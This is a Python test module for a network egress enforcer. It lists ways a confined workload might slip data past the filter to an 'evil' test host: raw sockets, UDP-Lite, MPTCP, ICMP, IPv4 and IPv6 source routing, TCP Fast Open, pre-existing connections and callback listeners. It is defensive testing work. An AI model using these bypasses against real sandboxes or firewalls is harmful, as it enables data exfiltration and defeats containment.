"""Escapes as functions from a scene to whether it worked: for the enforcer, and for its mutants."""

import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from ipaddress import ip_address
from typing import Any

from bed import Bed, Host, Sniffer, call_in
from e2e.escapes import (
    Steps,
    ask,
    dial,
    got,
    hello,
    ipv4_packet,
    later_managed,
    rules,
    tcp,
    udp,
    udp_datagram,
)
from e2e.guard import Guard, rule

SECRET = b"something that must not leave"


@dataclass
class Scene:
    """An enforcer, a network, an allowed host, a host that is not, and what is on the wire."""

    guard: Guard
    bed: Bed
    good: Host
    evil: Host
    wire: Sniffer

    def run(self, client: Callable[[], Any]) -> Any:
        """A client under the usual rules."""
        with self.guard.workload(*rules(self.good)) as w:
            return call_in(self.bed, client, cgroup=w.cgroup)


@dataclass(frozen=True)
class Way:
    """A way out, and the defences without which it is one."""

    without: tuple[str, ...]
    escapes: Callable[[Scene], bool]


ALL = ("backstop", "kinds", "options", "foreign")  # foreign: MPTCP's subflow is a socket that the kernel made
WAYS: dict[str, Way] = {}


def way(*without: str) -> Callable[[Callable[[Scene], bool]], Callable[[Scene], bool]]:
    """Puts a function into WAYS."""

    def add(function: Callable[[Scene], bool]) -> Callable[[Scene], bool]:
        WAYS[function.__name__] = Way(without, function)
        return function

    return add


@way(*ALL)
def raw_socket(scene: Scene) -> bool:
    """A datagram with headers of its own."""
    packet = ipv4_packet(scene.evil.address4, 17, udp_datagram(5000, SECRET))
    raw = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    scene.run(lambda: got(lambda: socket.socket(*raw).sendto(packet, (scene.good.address4, 0))))
    return scene.evil.datagrams() == [SECRET]


@way(*ALL)
def udplite(scene: Scene) -> bool:
    """connect() and send(), which pass no hook but the backstop."""

    def client() -> Any:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
        sock.connect((scene.evil.address4, 5000))
        return sock.send(SECRET)

    scene.run(lambda: got(client))
    return scene.wire.saw(SECRET)


@way(*ALL)
def mptcp(scene: Scene) -> bool:
    """A denied name on a socket whose writes pass no on_message."""
    theirs = hello("evil.test")

    def client() -> Any:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        sock.connect((scene.good.address4, 70))
        return sock.send(theirs)

    with scene.guard.workload(rule(scene.good.address4, ports=(70,), hosts=("good.test",), protocol="tls")) as w:
        call_in(scene.bed, lambda: got(client), cgroup=w.cgroup)
    return scene.good.count().bytes == len(theirs)


@way(*ALL)
def ping(scene: Scene) -> bool:
    """An echo request without an icmp rule."""

    def client() -> Any:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        return sock.sendto(b"\x08\0\0\0\0\0\0\1" + SECRET, (scene.evil.address4, 0))

    scene.run(lambda: got(client))
    return scene.wire.saw(SECRET)


@way(*ALL)
def source_route(scene: Scene) -> bool:
    """A datagram to an allowed address by way of another."""
    via = b"\x83\x07\x04" + ip_address(scene.evil.address4).packed + b"\0"

    def client() -> Any:
        sock = udp()
        sock.setsockopt(socket.IPPROTO_IP, 4, via)
        return sock.sendto(SECRET, (scene.good.address4, 5000))

    scene.run(lambda: got(client))
    return scene.wire.toward(scene.evil.address4).frames > 0


@way(*ALL)
def segment_routing(scene: Scene) -> bool:
    """The same over IPv6, which takes no privilege."""
    segments = b"\0\4\4\1\1\0\0\0" + bytes(16) + ip_address(scene.evil.address6).packed

    def client() -> Any:
        sock = udp(scene.good.address6)
        sock.setsockopt(socket.IPPROTO_IPV6, 57, segments)
        return sock.sendto(SECRET, (scene.good.address6, 5000))

    scene.run(lambda: got(client))
    return scene.wire.toward(scene.evil.address6).frames > 0


@way("options")
def multicast_join(scene: Scene) -> bool:
    """The kernel's report passes no packet hook."""
    group, here = ip_address("239.77.66.55").packed, ip_address("198.51.100.1").packed

    def client() -> Any:
        sock = udp()
        got(lambda: sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group + here))
        time.sleep(0.3)

    scene.run(client)
    return scene.wire.saw(group)


@way("backstop")
def fast_open(scene: Scene) -> bool:
    """A denied name in the SYN."""
    theirs = hello("evil.test")
    scene.run(lambda: got(lambda: tcp("").sendto(theirs, socket.MSG_FASTOPEN, (scene.good.address4, 8443))))
    return scene.good.count().bytes > 0


@way("backstop")
def older_connection(scene: Scene) -> bool:
    """Connected before the policy."""

    def client(pause: Callable[[], None]) -> Any:
        sock = tcp("")
        sock.connect((scene.evil.address4, 7))
        pause()
        return ask(sock, SECRET)

    with later_managed(scene.guard) as w, Steps(scene.bed, client, w.cgroup) as steps:
        w.switch(*rules(scene.good))
        steps.go_on()
        return scene.evil.count().bytes > 0


@way("backstop")
def called_back(scene: Scene) -> bool:
    """A stranger dials in and is told."""

    def client(pause: Callable[[], None]) -> Any:
        listener = socket.create_server(("198.51.100.1", 6300))
        listener.settimeout(0.7)
        pause()
        return got(lambda: listener.accept()[0].send(SECRET))

    with scene.guard.workload(*rules(scene.good)) as w, Steps(scene.bed, client, w.cgroup) as steps:
        thread = threading.Thread(target=steps.go_on)
        thread.start()
        heard = call_in(scene.bed, lambda: dial("198.51.100.1", 6300, b""), at=scene.bed.network.hosts)
        thread.join()
        return heard == SECRET


@way("address")
def second_of_two(scene: Scene) -> bool:
    """The same port of another host, on a socket that may use it at the first."""

    def client() -> Any:
        sock = udp()
        for host in (scene.good, scene.evil):
            got(lambda to=host: sock.sendto(SECRET, (to.address4, 5000)))

    scene.run(client)
    return scene.evil.count().datagrams == 1
